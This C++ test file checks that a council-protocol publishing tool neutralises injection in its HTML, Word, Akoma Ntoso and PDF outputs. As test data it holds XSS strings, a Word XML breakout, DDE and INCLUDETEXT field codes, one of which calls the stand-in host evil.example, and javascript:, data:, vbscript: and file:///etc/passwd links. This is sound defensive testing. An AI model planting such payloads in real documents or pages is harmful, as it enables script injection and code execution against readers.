// Injection: text in a source (clause words, headings, front matter values, the council
// name, table cells, link text) that looks like HTML, XML or Word field codes is shown as
// the words it is in every output, and never becomes markup; javascript: and data:
// links are refused everywhere.
#include <catch2/catch.hpp>

#include <algorithm>
#include <cctype>
#include <functional>

#include <pugixml.hpp>

#include "akn/akn.hpp"
#include "check/check.hpp"
#include "docx/docx.hpp"
#include "html/writer.hpp"
#include "io/files.hpp"
#include "package/zip_reader.hpp"
#include "pdf/pdf.hpp"
#include "refs/refs.hpp"
#include "source/reader.hpp"
#include "support.hpp"

using namespace protopub;

namespace {

// Each payload is tried in every place a source puts words.
const char* const kScript = "<script>alert('x')</script>";
const char* const kImage = "<img src=x onerror=alert(1)>";
const char* const kAttributeBreak = "\" onmouseover=\"alert(1)";
const char* const kXmlBreak = "</w:t></w:r><w:r><w:t>injected</w:t></w:r>]]><!--";
// Character references are decoded (CommonMark) and the result is shown as text.
const char* const kEntity = "&amp; &lt;b&gt; &#60;i&#62; &unknown;";
const char* const kEntityShown = "& <b> <i> &unknown;";
const char* const kField =
    "{ INCLUDETEXT \"http://evil.example/x.docx\" } { DDEAUTO cmd \"/c calc\" } { HYPERLINK \"javascript:alert(1)\" }";

std::string yaml_quoted(const std::string& s) {
    std::string out = "'";
    for (char c : s) out += c == '\'' ? std::string("''") : std::string(1, c);
    return out + "'";
}

// A source with `payload` in the title, council, version, adopted_by, minute, section
// heading, sub-heading, clause words, sub-item, table cell, quote, code and link text.
std::string hostile_source(const std::string& payload) {
    return "---\ntitle: " + yaml_quoted("Title " + payload) + "\ncouncil: " + yaml_quoted("Council " + payload) +
           "\nversion: " + yaml_quoted("1 " + payload) +
           "\nstatus: adopted\nadopted: 2023-04-04\nadopted_by: " + yaml_quoted("Body " + payload) +
           "\nminute: " + yaml_quoted("M " + payload) + "\n---\n\n" + "## 1. Heading " + payload + " {#intro}\n\n" +
           "1.1 {#first} Words " + payload + " end.\n\n" + "### Sub " + payload + "\n\n" +
           "1.2 {#second} A list:\n\n- (a) {#item} Item " + payload + "\n- (b) Second *" + payload + "*\n\n" +
           "| head " + payload + " | b |\n|---|---|\n| cell " + payload + " | `code " + payload + "` |\n\n" +
           "> Quote " + payload + "\n\n" + "1.3 {#third} See [link " + payload +
           "](https://example.gov.uk/?q=%22a%22&b=1) and paragraph 1.1.\n";
}

model::Protocol read_resolved(const std::string& text) {
    model::Diagnostics diags;
    model::Protocol p = source::read_protocol(text, "hostile.md", diags);
    refs::resolve_references(p, diags);
    check::check_structure(p, diags);
    INFO(testing::formatted(diags));
    REQUIRE_FALSE(diags.has_errors());
    return p;
}

std::string lower(std::string s) {
    std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
    return s;
}

// Walks every element and attribute of a parsed document.
void each_element(pugi::xml_node node, const std::function<void(pugi::xml_node)>& visit) {
    for (pugi::xml_node child : node.children()) {
        if (child.type() != pugi::node_element) continue;
        visit(child);
        each_element(child, visit);
    }
}

// No element or attribute came from the source: only names the renderer itself uses.
void check_no_injected_markup(const pugi::xml_document& doc, const std::string& what) {
    each_element(doc, [&](pugi::xml_node e) {
        const std::string name = lower(e.name());
        INFO(what << ": element <" << name << ">");
        CHECK(name != "script");
        CHECK(name != "img");
        CHECK(name != "iframe");
        CHECK(name.find("injected") == std::string::npos);
        for (pugi::xml_attribute a : e.attributes()) {
            const std::string attr = lower(a.name());
            INFO("attribute " << attr << "=\"" << a.value() << "\"");
            CHECK(attr.rfind("on", 0) != 0);
            const std::string value = lower(a.value());
            if (attr == "href" || attr == "src" || attr == "target" || attr == "action") {
                CHECK(value.find("javascript:") == std::string::npos);
                CHECK(value.find("data:") == std::string::npos);
                CHECK(value.find("vbscript:") == std::string::npos);
            }
        }
    });
}

pugi::xml_document parse_xml(const std::string& xml, const std::string& what) {
    pugi::xml_document doc;
    pugi::xml_parse_result r = doc.load_buffer(xml.data(), xml.size());
    INFO(what << ": " << r.description() << " at offset " << r.offset);
    REQUIRE(r);
    return doc;
}

std::string all_text(pugi::xml_node node) {
    std::string out;
    for (pugi::xml_node n : node.children()) {
        if (n.type() == pugi::node_pcdata || n.type() == pugi::node_cdata)
            out += n.value();
        else
            out += all_text(n);
    }
    return out;
}

std::map<std::string, std::string> render_site(const model::Protocol& p) {
    io::OutputSet out;
    html::SiteOptions options;
    options.templates_dir = test_env::source_dir() + "/templates";
    model::Diagnostics diags;
    REQUIRE(html::render_site({p}, options, out, diags));
    return out.files();
}

std::map<std::string, std::string> docx_parts(const model::Protocol& p) {
    model::Diagnostics diags;
    std::string bytes = docx::render_docx(p, docx::DocxOptions{}, diags);
    INFO(testing::formatted(diags));
    REQUIRE_FALSE(bytes.empty());
    std::string error;
    auto parts = package::read_zip(bytes, error);
    INFO(error);
    REQUIRE(parts);
    return *parts;
}

}  // namespace

TEST_CASE("HTML, XML and field codes in a source never become markup in any output", "[injection]") {
    for (const std::string payload : {kScript, kImage, kAttributeBreak, kXmlBreak, kEntity, kField}) {
        INFO("payload: " << payload);
        const model::Protocol p = read_resolved(hostile_source(payload));
        const std::string shown = payload == kEntity ? kEntityShown : payload;

        // HTML: every page parses as XML (the serialiser writes XHTML-compatible HTML5),
        // no element or attribute comes from the text, and the words are all there.
        for (const auto& [name, bytes] : render_site(p)) {
            if (!name.ends_with(".html")) continue;
            std::string body = bytes.substr(bytes.find('<', 1));  // after <!DOCTYPE html>
            auto doc = parse_xml(body, name);
            check_no_injected_markup(doc, name);
            if (name != "index.html") CHECK(all_text(doc).find("Words " + shown + " end.") != std::string::npos);
            CHECK(all_text(doc).find("Council " + std::string(payload)) != std::string::npos);
        }

        // Word: every XML part is well-formed; the words are in w:t, never in a field.
        for (const auto& [name, bytes] : docx_parts(p)) {
            if (!name.ends_with(".xml") && !name.ends_with(".rels")) continue;
            auto doc = parse_xml(bytes, name);
            check_no_injected_markup(doc, name);
            each_element(doc, [&](pugi::xml_node e) {
                const std::string n = e.name();
                if (n == "w:instrText") CHECK(std::string(e.text().get()).find("INCLUDETEXT") == std::string::npos);
                if (n == "w:fldSimple")
                    CHECK(std::string(e.attribute("w:instr").value()).find("DDEAUTO") == std::string::npos);
            });
            if (name == "word/document.xml") CHECK(all_text(doc).find("Words " + shown + " end.") != std::string::npos);
            if (name == "docProps/core.xml")
                CHECK(all_text(doc).find("Title " + std::string(payload)) != std::string::npos);
        }

        // Akoma Ntoso: well-formed, the words are text.
        model::Diagnostics diags;
        auto akn_doc = parse_xml(akn::render_akn(p, akn::AknOptions{}, diags), "akn");
        check_no_injected_markup(akn_doc, "akn");
        CHECK(all_text(akn_doc).find("Words " + shown + " end.") != std::string::npos);

        // PDF: renders (text there is drawn, never interpreted).
        pdf::PdfOptions pdf_options;
        pdf_options.epoch = 0;
        CHECK_FALSE(pdf::render_pdf(p, pdf_options, diags).empty());
    }
}

TEST_CASE("ids cannot carry markup: a malformed id is an error", "[injection]") {
    model::Diagnostics diags;
    source::read_protocol(testing::source_with_body("## 1. A {#x\"><script>}\n\n1.1 {#a<b>} Words.\n"), "ids.md",
                          diags);
    CHECK(testing::formatted(diags).find("ids.md:10:5: error: malformed clause id") != std::string::npos);
}

TEST_CASE("javascript:, data: and other unsafe links are refused in every output", "[injection][links]") {
    const std::string body =
        "## 1. Links {#links}\n\n"
        "1.1 {#plain} [a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](&#106;avascript:alert(3)) "
        "[d](data:text/html;base64,PHNjcmlwdD4=) [e](vbscript:msgbox) [f](file:///etc/passwd) "
        "<javascript:alert(4)> ![g](javascript:alert(5)) [h][bad] [i](java%0ascript:alert(6)) "
        "[j]( javascript:alert(7)) [k](https://ok.example.gov.uk/) [l](mailto:clerk@example.gov.uk)\n\n"
        "[bad]: javascript:alert(8)\n";
    model::Diagnostics diags;
    model::Protocol p = source::read_protocol(testing::source_with_body(body), "links.md", diags);
    refs::resolve_references(p, diags);
    CHECK_FALSE(diags.has_errors());
    const std::string reported = testing::formatted(diags);
    CHECK(reported.find("warning: link scheme 'javascript:' is not allowed; shown as text") != std::string::npos);
    CHECK(reported.find("warning: link scheme 'data:' is not allowed; shown as text") != std::string::npos);
    CHECK(reported.find("warning: link scheme 'vbscript:' is not allowed; shown as text") != std::string::npos);

    std::vector<std::string> hrefs;
    auto collect = [&](const pugi::xml_document& doc) {
        each_element(doc, [&](pugi::xml_node e) {
            for (const char* a : {"href", "src", "Target", "xlink:href"})
                if (auto attr = e.attribute(a)) hrefs.push_back(lower(attr.value()));
        });
    };
    for (const auto& [name, bytes] : render_site(p))
        if (name.ends_with(".html")) collect(parse_xml(bytes.substr(bytes.find('<', 1)), name));
    for (const auto& [name, bytes] : docx_parts(p))
        if (name.ends_with(".rels") || name.ends_with(".xml")) collect(parse_xml(bytes, name));
    collect(parse_xml(akn::render_akn(p, akn::AknOptions{}, diags), "akn"));
    pdf::PdfOptions pdf_options;
    pdf_options.epoch = 0;
    const std::string pdf = lower(pdf::render_pdf(p, pdf_options, diags));

    for (const auto& h : hrefs) {
        INFO(h);
        CHECK(h.find("javascript") == std::string::npos);
        CHECK(h.find("data:") == std::string::npos);
        CHECK(h.find("vbscript") == std::string::npos);
        CHECK(h.find("file:") == std::string::npos);
    }
    CHECK(std::count(hrefs.begin(), hrefs.end(), "https://ok.example.gov.uk/") >= 3);  // HTML, docx, AKN
    CHECK(pdf.find("/uri (javascript") == std::string::npos);
    CHECK(pdf.find("/s /javascript") == std::string::npos);
    CHECK(pdf.find("/uri (data:") == std::string::npos);
}
